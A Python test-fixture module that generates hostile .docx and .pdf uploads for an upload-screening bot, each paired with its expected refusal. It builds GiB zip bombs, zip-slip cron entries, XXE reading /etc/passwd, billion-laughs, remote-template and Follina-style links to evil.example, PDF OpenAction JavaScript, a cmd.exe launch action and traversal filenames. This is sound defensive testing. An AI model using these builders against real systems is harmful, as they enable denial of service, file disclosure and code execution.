"""A corpus of hostile uploads, generated here (no binary files in the repository).

Each entry says what the bot must answer: the refusal's catalogue key, or for a hostile file
*name* the clean name the file is stored under. Builders are cached: the bombs inflate to a GiB
but are made from one compressed MiB repeated, so building the corpus takes about a second.
`tests/test_hostile_uploads.py` checks the answers and the memory; `bench/hostile_uploads.py`
times them.
"""

from __future__ import annotations

import hashlib
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from io import BytesIO

import docx

MB = 1024 * 1024
GIB_BLOCKS = 1024  # a GiB, as 1 MiB blocks
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PARAGRAPH = b"<w:p><w:r><w:t>Pasal 1 Maksud dan tujuan kerja sama</w:t></w:r></w:p>"


@dataclass(frozen=True)
class Hostile:
    """One hostile upload and what the bot must make of it."""

    name: str
    filename: str
    build: Callable[[], bytes]
    refusal: str | None  # catalogue key of the answer; None: accepted, stored as `stored_as`
    stored_as: str | None = None
    declared_size: int | None = None  # what the platform reports before the download


# --- documents ----------------------------------------------------------------------------------


@cache
def plain_docx(text: str = "Perjanjian Kerja Sama Nomor 12/2026") -> bytes:
    """A real .docx, as Word tooling writes it."""
    document = docx.Document()
    document.add_paragraph(text)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def rezip(data: bytes, replace: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    """A copy of a zip with members replaced, added (a new name in `replace`) or dropped."""
    replace = dict(replace)
    out = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in drop:
                target.writestr(info.filename, replace.pop(info.filename, source.read(info)))
        for name, content in replace.items():
            target.writestr(name, content)
    return out.getvalue()


def _content_types(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return archive.read("[Content_Types].xml").decode()


def with_raw_member(data: bytes, name: str, deflated: bytes, crc: int, size: int) -> bytes:
    """The zip with a member whose deflate stream is given as is, declaring `size` bytes."""
    out = BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 3, 2, 9, 0, 0)), deflated)
    raw = bytearray(out.getvalue())
    with zipfile.ZipFile(BytesIO(bytes(raw))) as archive:
        local = archive.getinfo(name).header_offset
    central = raw.rfind(name.encode()) - 46
    assert raw[central : central + 4] == b"PK\x01\x02"
    for header, method, fields in ((local, 8, 14), (central, 10, 16)):
        struct.pack_into("<H", raw, header + method, zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", raw, header + fields, crc)
        struct.pack_into("<I", raw, header + fields + 8, size)
    return bytes(raw)


@cache
def _xml_bomb_stream() -> tuple[bytes, int, int]:
    """A GiB of document XML as one raw deflate stream: (stream, crc, size).

    One MiB of paragraphs is compressed once and ended with a full flush, which makes the
    segment independent of what came before: repeated, it inflates to that MiB again and again.
    """
    head = f'<w:document xmlns:w="{W}"><w:body>'.encode()
    tail = b"</w:body></w:document>"
    block = PARAGRAPH * (MB // len(PARAGRAPH))
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = deflater.compress(head) + deflater.flush(zlib.Z_FULL_FLUSH)
    middle = deflater.compress(block) + deflater.flush(zlib.Z_FULL_FLUSH)
    last = deflater.compress(tail) + deflater.flush()
    crc = zlib.crc32(head)
    for _ in range(GIB_BLOCKS):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + GIB_BLOCKS * len(block) + len(tail)
    return first + middle * GIB_BLOCKS + last, crc, size


def xml_bomb(declared: int | None = None) -> bytes:
    """A .docx whose document.xml inflates to a GiB; its zip directory says `declared` bytes."""
    stream, crc, size = _xml_bomb_stream()
    base = rezip(plain_docx(), {}, drop=("word/document.xml",))
    return with_raw_member(base, "word/document.xml", stream, crc, declared or size)


def overlapping_bomb(copies: int = 40) -> bytes:
    """Many directory entries sharing one member's data (overlapping files): each unpacks the
    same 10 MB, honestly declared and under 30:1 compressed, 390 MB in all."""
    text = b"".join(b"%s %d\n" % (PARAGRAPH, n % 997) for n in range(10 * MB // 80))
    base = rezip(plain_docx(), {"word/media/part0.xml": text})
    raw = bytearray(base)
    entry_at = raw.rfind(b"word/media/part0.xml") - 46
    entry = bytes(raw[entry_at : entry_at + 46 + len(b"word/media/part0.xml")])
    end = raw.rfind(b"PK\x05\x06")
    count, cd_size, cd_offset = struct.unpack_from("<HII", raw, end + 10)
    extra = b"".join(
        entry[:46] + f"word/media/part{n}.xml".encode().ljust(20, b"_")[:20]
        for n in range(1, copies)
    )
    directory = bytes(raw[cd_offset : cd_offset + cd_size]) + extra
    eocd = bytearray(raw[end:])
    struct.pack_into("<HHII", eocd, 8, count + copies - 1, count + copies - 1,
                     len(directory), cd_offset)  # fmt: skip
    return bytes(raw[:cd_offset]) + directory + bytes(eocd)


def with_doctype(member: str, doctype: bytes, reference: bytes) -> bytes:
    """A .docx whose `member` declares a DTD and uses its entity."""
    if member == "word/document.xml":
        body = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>'.encode()
        xml = doctype + body + reference + b"</w:t></w:r></w:p></w:body></w:document>"
    else:
        xml = doctype + f'<w:styles xmlns:w="{W}"><w:style w:styleId="'.encode()
        xml += reference + b'"/></w:styles>'
    return rezip(plain_docx(), {member: b'<?xml version="1.0"?>' + xml})


XXE = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>"
)


def ole_bytes(*streams: str) -> bytes:
    """An OLE compound file (a VBA project, an embedded OLE object)."""
    header = bytearray(512)
    header[:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHH", header, 0x1A, 3, 0xFFFE, 9)
    directory = bytearray()
    for kind, name in [(5, "Root Entry"), *((2, stream) for stream in streams)]:
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[: len(encoded)] = encoded
        struct.pack_into("<HB", entry, 64, len(encoded), kind)
        directory += entry
    return bytes(header + directory + bytes(-len(directory) % 512))


def docm_as_docx() -> bytes:
    """A macro-enabled document (.docm) renamed to .docx."""
    types = _content_types(plain_docx()).replace(WORD_MAIN, DOCM_MAIN)
    types = types.replace(
        "<Default ",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
        1,
    )
    return rezip(
        plain_docx(),
        {"[Content_Types].xml": types.encode(), "word/vbaProject.bin": ole_bytes("VBA")},
    )


def embedded_ole() -> bytes:
    """An embedded OLE object (Equation Editor and packager objects carry exploits)."""
    types = _content_types(plain_docx()).replace(
        "<Default ",
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        'oleObject"/><Default ',
        1,
    )
    return rezip(
        plain_docx(),
        {"[Content_Types].xml": types.encode(),
         "word/embeddings/oleObject1.bin": ole_bytes("\x01Ole10Native")},
    )  # fmt: skip


def relationships(*entries: tuple[str, str, bool]) -> bytes:
    rels = "".join(
        f'<Relationship Id="rId{90 + n}" Type="{REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(entries)
    )
    return f'<Relationships xmlns="{PACKAGE_REL}">{rels}</Relationships>'.encode()


def remote_template(target: str) -> bytes:
    """Template injection: Word fetches `target` as the document's template when opened."""
    rels = relationships(("attachedTemplate", target, True))
    return rezip(plain_docx(), {"word/_rels/settings.xml.rels": rels})


def external_ole_object() -> bytes:
    """An OLE object linked to a remote page (the "Follina" way in)."""
    with zipfile.ZipFile(BytesIO(plain_docx())) as archive:
        rels = archive.read("word/_rels/document.xml.rels").decode()
    link = (
        f'<Relationship Id="rId99" Type="{REL}/oleObject" '
        'Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" '
        'TargetMode="External"/></Relationships>'
    )
    return rezip(
        plain_docx(), {"word/_rels/document.xml.rels": rels.replace("</Relationships>", link)}
    )


def local_template_and_links() -> bytes:
    """Not hostile: Word's own template path and a web link, as in many real documents."""
    rels = relationships(
        ("attachedTemplate", "file:///C:/Users/staf/AppData/Roaming/Microsoft/Normal.dotm", True)
    )
    return rezip(plain_docx(), {"word/_rels/settings.xml.rels": rels})


def noise(size: int) -> bytes:
    """Incompressible, but the same bytes every run."""
    return hashlib.shake_256(b"sopbot").digest(size)


@cache
def padded_docx(size: int) -> bytes:
    """A real .docx carrying `size` bytes of incompressible media: large but harmless."""
    media = noise(size)
    out = BytesIO(plain_docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("word/media/image1.png", media)
    return out.getvalue()


# --- PDFs ---------------------------------------------------------------------------------------


def pdf(*objects: bytes, root_extra: bytes = b"") -> bytes:
    """A PDF whose catalogue is object 1 (pages 2, page 3), then `objects` from 4 on."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R" + root_extra + b" >>"
    bodies = (
        catalogue,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def object_stream(objects: bytes, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    data = zlib.compress(objects) if b"Flate" in filters else objects
    return stream(b"/Type /ObjStm /N 1 /First 4 " + filters, data)


@cache
def _objstm_bomb() -> bytes:
    """An object stream inflating to a GiB of spaces (repeated full-flush segments)."""
    deflater = zlib.compressobj(9)
    opening = deflater.compress(b"5 0 ") + deflater.flush(zlib.Z_FULL_FLUSH)
    segment = deflater.compress(b" " * MB) + deflater.flush(zlib.Z_FULL_FLUSH)
    closing = deflater.compress(b"<< >>") + deflater.flush()
    data = opening + segment * GIB_BLOCKS + closing
    return pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", data))


JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\);) >>"


def token_flood(size: int = 19 * MB) -> bytes:
    """Millions of tiny names outside any stream: a check that walks tokens must stay fast."""
    return pdf(b"[" + b"/a" * (size // 2) + b"]")


def pdf_like_report(size: int) -> bytes:
    """Not hostile: a PDF of `size` bytes, mostly one image stream, as scanned letters are."""
    image = noise(size)
    return pdf(stream(b"/Type /XObject /Subtype /Image /Filter /DCTDecode", image))


# --- the corpus ---------------------------------------------------------------------------------

DOCX = "pks.docx"
CORPUS: tuple[Hostile, ...] = (
    Hostile("zip bomb: document.xml inflates to 1 GiB", DOCX, xml_bomb, "upload.archive_unsafe"),
    Hostile("zip bomb declaring 50 KB for its 1 GiB", DOCX, lambda: xml_bomb(50_000),
            "upload.archive_unsafe"),
    Hostile("zip bomb declaring 99 MB for its 1 GiB", DOCX, lambda: xml_bomb(99 * MB),
            "upload.archive_unsafe"),
    Hostile("overlapping members: 40 x 10 MB from one", DOCX, overlapping_bomb,
            "upload.archive_unsafe"),
    Hostile("member named ../../ (zip slip)", DOCX,
            lambda: rezip(plain_docx(), {"word/../../../etc/cron.d/sopbot": b"* * * * * id\n"}),
            "upload.archive_unsafe"),
    Hostile("member with an absolute path", DOCX,
            lambda: rezip(plain_docx(), {"/etc/cron.d/sopbot": b"* * * * * id\n"}),
            "upload.archive_unsafe"),
    Hostile("XXE: external entity in document.xml", DOCX,
            lambda: with_doctype("word/document.xml", XXE, b"&xxe;"), "upload.docx_corrupt"),
    Hostile("billion laughs in document.xml", DOCX,
            lambda: with_doctype("word/document.xml", LAUGHS, b"&lol9;"), "upload.docx_corrupt"),
    Hostile("XXE in word/styles.xml", DOCX,
            lambda: with_doctype("word/styles.xml", XXE, b"&xxe;"), "upload.docx_corrupt"),
    Hostile(".docm (macros) renamed to .docx", DOCX, docm_as_docx, "upload.macro"),
    Hostile("embedded OLE object", DOCX, embedded_ole, "upload.macro"),
    Hostile("remote template over https", DOCX,
            lambda: remote_template("https://evil.example/t.dotm"), "upload.active_content"),
    Hostile("remote template on a network share", DOCX,
            lambda: remote_template("\\\\evil.example\\share\\t.dotm"), "upload.active_content"),
    Hostile("OLE object linked to a web page", DOCX, external_ole_object,
            "upload.active_content"),
    Hostile("30 MB file, size declared", DOCX, lambda: padded_docx(30 * MB), "upload.too_large",
            declared_size=30 * MB),
    Hostile("30 MB file, size not declared", DOCX, lambda: padded_docx(30 * MB),
            "upload.too_large"),
    Hostile("program renamed to .docx", DOCX, lambda: b"MZ\x90\x00" + bytes(4096),
            "upload.not_docx"),
    Hostile("web page renamed to .pdf", "surat.pdf",
            lambda: b"<html><script>alert(1)</script></html>", "upload.pdf_corrupt"),
    Hostile("PDF running JavaScript when opened", "surat.pdf",
            lambda: pdf(JS_ACTION, root_extra=b" /OpenAction 4 0 R"), "upload.pdf_active"),
    Hostile("PDF JavaScript spelt with #-escapes", "surat.pdf",
            lambda: pdf(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
                        root_extra=b" /OpenAction 4 0 R"), "upload.pdf_active"),
    Hostile("PDF JavaScript inside a compressed object stream", "surat.pdf",
            lambda: pdf(object_stream(b"5 0 " + JS_ACTION), root_extra=b" /OpenAction 5 0 R"),
            "upload.pdf_active"),
    Hostile("PDF launching a program", "surat.pdf",
            lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>", root_extra=b" /OpenAction 4 0 R"),
            "upload.pdf_active"),
    Hostile("PDF with an embedded file", "surat.pdf",
            lambda: pdf(b"<< /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
                        root_extra=b" /Names 4 0 R"), "upload.pdf_active"),
    Hostile("PDF object stream inflating to 1 GiB", "surat.pdf", _objstm_bomb,
            "upload.pdf_unsafe"),
    Hostile("PDF object stream behind an extra filter", "surat.pdf",
            lambda: pdf(object_stream(
                (b"5 0 " + JS_ACTION).hex().encode() + b">",
                b"/Filter [/ASCIIHexDecode]")), "upload.pdf_unsafe"),
    Hostile("PDF of 19 MB of tiny names", "surat.pdf", token_flood, "upload.pdf_unsafe"),
)  # fmt: skip

# Hostile names on a harmless document: stored under the clean name, nothing else changes.
NAMES: tuple[tuple[str, str], ...] = (
    ("../../etc/passwd.docx", "passwd.docx"),
    ("/etc/cron.d/evil.docx", "evil.docx"),
    ("C:\\Windows\\System32\\drivers\\evil.docx", "evil.docx"),
    ("..\\..\\boot.ini.docx", "boot.ini.docx"),
    ("laporan\x00\r\n\x1b[31m.docx", "laporan [31m.docx"),
    ("rancangan\u202excod.docx", "rancanganxcod.docx"),  # shown as "rancangandocx.doc"
    ("CON.docx", "_CON.docx"),
    ("aux.tar.docx", "_aux.tar.docx"),
    ("....docx", "dokumen.docx"),
    ("x" * 300 + ".docx", "x" * 115 + ".docx"),
)
